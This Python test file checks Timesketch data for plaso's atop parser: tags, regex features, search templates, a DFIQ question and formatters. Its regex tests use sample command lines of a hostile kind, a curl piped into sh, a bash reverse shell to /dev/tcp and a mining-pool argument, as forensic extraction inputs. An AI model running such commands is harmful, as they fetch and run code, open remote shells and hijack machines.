#!/usr/bin/env python3
"""Tests for what data/timesketch holds that need no Timesketch server."""

import io
import os
import re
import time
import unittest
import uuid

from unittest import mock

import yaml

from scripts import attributes
from scripts import timesketch_tags

from tests.lib import end_to_end
from tests.lib import test_lib
from tests.lib import timesketch_logs

# What Timesketch adds to the attributes of the events.
_DOCUMENT_ATTRIBUTES = frozenset(["data_type", "tag", "timestamp_desc"])

_FIELD_RE = re.compile(r"\b([a-z_]+)(?:\.keyword)?:")


class DataTest(test_lib.BaseTestCase):
    """Tests for the files of data/timesketch."""

    def _GetPath(self, *names):
        """Retrieves the path of a file.

        Args:
          names (list[str]): names of the directories and of the file.

        Returns:
          str: path.
        """
        return os.path.join(test_lib.DATA_PATH, "timesketch", *names)

    def _ReadYAML(self, *names):
        """Reads a YAML file.

        Args:
          names (list[str]): names of the directories and of the file.

        Returns:
          object: contents of the file.
        """
        with open(self._GetPath(*names), encoding="utf-8") as file_object:
            return yaml.safe_load(file_object)

    def _CheckQuery(self, query, other_attributes=()):
        """Checks that a query is about attributes that the events have.

        Args:
          query (str): query.
          other_attributes (Optional[set[str]]): attributes that others add.
        """
        attributes_per_data_type = {
            event_data_class.DATA_TYPE: {
                attribute.name
                for attribute in attributes.GetAttributes(event_data_class)
            }
            for event_data_class in attributes.GetEventDataClasses()
        }
        data_types = re.findall(r'"(linux:atop:[^"]*)"', query)
        self.assertTrue(data_types, query)
        self.assertTrue(query.startswith("data_type:"), query)
        names = set()
        for data_type in data_types:
            self.assertIn(data_type, attributes_per_data_type)
            names |= attributes_per_data_type[data_type]

        # What is quoted or a regular expression is no attribute.
        query = re.sub(r'"[^"]*"|:/(\\/|[^/])*/', ":", query)
        query = re.sub(r"_exists_:(\w+)", r"\1:", query)
        fields = set(_FIELD_RE.findall(query)) - _DOCUMENT_ATTRIBUTES
        self.assertLessEqual(fields - set(other_attributes), names, query)

    def testTags(self):
        """Tests that the tags are those of psort."""
        with open(self._GetPath("tags.yaml"), encoding="utf-8") as file_object:
            text = file_object.read()

        expected = io.StringIO()
        timesketch_tags.Write(timesketch_tags.SOURCE_PATH, expected)
        self.assertEqual(
            text, expected.getvalue(), "outdated, to do: scripts/timesketch_tags.py"
        )

        entries = yaml.safe_load(text)
        self.assertEqual(
            {label for entry in entries.values() for label in entry["tags"]},
            set(timesketch_tags.ReadRules(timesketch_tags.SOURCE_PATH)),
        )
        for entry in entries.values():
            self._CheckQuery(entry["query_string"])
            if "regular_expression" in entry:
                # Timesketch tags events without the attribute.
                self.assertIn(
                    f"_exists_:{entry['re_attribute']:s}", entry["query_string"]
                )
                re.compile(entry["regular_expression"])

    def testRegexFeatures(self):
        """Tests what the features are."""
        features = self._ReadYAML("regex_features.yaml")
        for feature in features.values():
            self._CheckQuery(feature["query_string"])
            self.assertIn(f"_exists_:{feature['attribute']:s}", feature["query_string"])

        urls = re.compile(features["atop_urls"]["re"])
        addresses = re.compile(features["atop_ipv4_addresses"]["re"])
        for text, expected_urls, expected_addresses in (
            (
                "curl -s http://192.0.2.66/x.sh | sh",
                ["http://192.0.2.66/x.sh"],
                ["192.0.2.66"],
            ),
            ("sh -c 'wget https://a.example/?x=1;y'", ["https://a.example/?x=1"], []),
            ("curl HTTP://a.example:8080/a,b", ["HTTP://a.example:8080/a,b"], []),
            (
                "x -o stratum+tcp://192.0.2.67:3333",
                ["stratum+tcp://192.0.2.67:3333"],
                ["192.0.2.67"],
            ),
            ("bash -i >& /dev/tcp/192.0.2.68/4444 0>&1", [], ["192.0.2.68"]),
            ("ping 192.0.2.68 192.0.2.69", [], ["192.0.2.68", "192.0.2.69"]),
            ("ssh user@192.0.2.68", [], ["192.0.2.68"]),
            ("lib-1.2.3.4.5.so 256.1.1.1 1.2.3 01.2.3.4", [], []),
            ("ls -la http:// ://", [], []),
        ):
            self.assertEqual(urls.findall(text), expected_urls, text)
            self.assertEqual(addresses.findall(text), expected_addresses, text)

        for text in ("http" * 400, "http://" * 200, "1." * 800, "1" * 1500):
            start_time = time.process_time()
            urls.findall(text)
            addresses.findall(text)
            self.assertLess(time.process_time() - start_time, 0.5, text[:9])

    def testSearchTemplates(self):
        """Tests that the search templates are what Timesketch can use."""
        templates = self._ReadYAML("search_templates", "atop.yaml")
        for name in ("display_name", "id", "query_string", "short_name"):
            values = {template[name] for template in templates}
            self.assertEqual(len(values), len(templates), name)

        for template in templates:
            with self.subTest(short_name=template["short_name"]):
                self.assertEqual(str(uuid.UUID(template["id"])), template["id"])
                query = template["query_string"]
                self._CheckQuery(query)
                self.assertEqual(
                    set(re.findall(r"{{ (\w+) }}", query)),
                    {parameter["name"] for parameter in template["parameters"]},
                )
                if template["parameters"]:
                    # Timesketch escapes these when it has filled in the parameters.
                    self.assertIsNone(re.search(r"[/.\\]", query), query)

    def testQuestion(self):
        """Tests that the question is what Timesketch can use."""
        templates = self._ReadYAML("search_templates", "atop.yaml")
        features = self._ReadYAML("regex_features.yaml")
        question = self._ReadYAML("dfiq", "questions", "Q0823.yaml")
        self.assertEqual(str(uuid.UUID(question["uuid"])), question["uuid"])
        with open(
            os.path.join(test_lib.DATA_PATH, "artifacts.yaml"), encoding="utf-8"
        ) as file_object:
            artifact_names = {
                artifact["name"] for artifact in yaml.safe_load_all(file_object)
            }

        for approach in question["approaches"]:
            self.assertTrue(approach["notes"]["covered"])
            self.assertTrue(approach["notes"]["not_covered"])
            for step in approach["steps"]:
                value = step["value"]
                if step["type"] == "ForensicArtifact":
                    self.assertIn(value, artifact_names)
                elif step["type"] == "timesketch-searchtemplate":
                    self.assertIn(value, {template["id"] for template in templates})
                elif step["type"] == "opensearch-query":
                    self._CheckQuery(
                        value, {feature["store_as"] for feature in features.values()}
                    )
                else:
                    self.assertEqual(step["stage"], "processing")


class FormattersTest(end_to_end.ToolsTestCase):
    """Tests for the message formatters where the package is not there."""

    def testMessages(self):
        """Tests that messages are the same with nothing but the file."""
        source_path = self._GetPath("source")
        os.mkdir(source_path)
        with open(test_lib.GetTestFilePath(["atop-2.12.1.raw"]), "rb") as file_object:
            data = {"bastion": file_object.read()}
        data["web"] = timesketch_logs.CreateIntrusionLog("web")
        data["storage"] = timesketch_logs.CreateDeviceLog("storage")
        for name, contents in data.items():
            with open(os.path.join(source_path, name), "wb") as file_object:
                file_object.write(contents)
        storage_path = self._Extract(source_path, "case.plaso", "--parsers", "atop")

        formatters_path = os.path.join(test_lib.DATA_PATH, "formatters", "atop.yaml")
        messages = []
        for arguments, value in (
            ([], ""),
            (["--custom_formatter_definitions", formatters_path], "1"),
            (["--custom_formatter_definitions", formatters_path], ""),
        ):
            with mock.patch.dict(os.environ, PLASO_ATOP_DISABLE=value):
                events = self._ReadEvents(storage_path, *arguments)
            messages.append(
                [(event["data_type"], event["message"]) for event in events]
            )

        self.assertNotIn("DEFAULT FORMATTER", str(messages))
        self.assertEqual(
            {data_type for data_type, _ in messages[0]},
            {
                event_data_class.DATA_TYPE
                for event_data_class in attributes.GetEventDataClasses()
            },
        )
        self.assertEqual(messages[1], messages[0])
        self.assertEqual(messages[2], messages[0])


if __name__ == "__main__":
    unittest.main()
